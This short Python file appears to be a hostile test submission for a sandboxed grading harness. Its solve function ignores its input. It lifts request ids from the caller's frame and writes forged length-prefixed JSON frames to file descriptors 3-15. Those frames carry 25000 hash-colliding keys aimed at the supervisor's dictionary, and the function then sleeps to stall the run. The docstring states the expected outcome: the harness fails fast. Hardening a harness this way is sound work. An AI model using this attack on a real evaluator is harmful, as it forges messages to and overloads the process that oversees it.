"""forged frames with 25000 colliding keys, aimed at the supervisor's dict | fail quickly: no dict outside is filled with such keys"""
import json
import os
import struct
import sys
import time

PRIME = (1 << 61) - 1
PAIRS = [[["i", hex(number * PRIME)], 0] for number in range(25000)]


def solve(xs):
    names = [value for value in sys._getframe(1).f_locals.values() if type(value) in (str, int)]
    for request in names[:10] or [0]:
        body = json.dumps({"id": request, "k": "ret", "v": ["d", PAIRS], "args": None}).encode()
        for fd in range(3, 16):
            data = struct.pack("<I", len(body)) + body
            try:
                while data:
                    data = data[os.write(fd, data) :]
            except OSError:
                pass
    time.sleep(60)
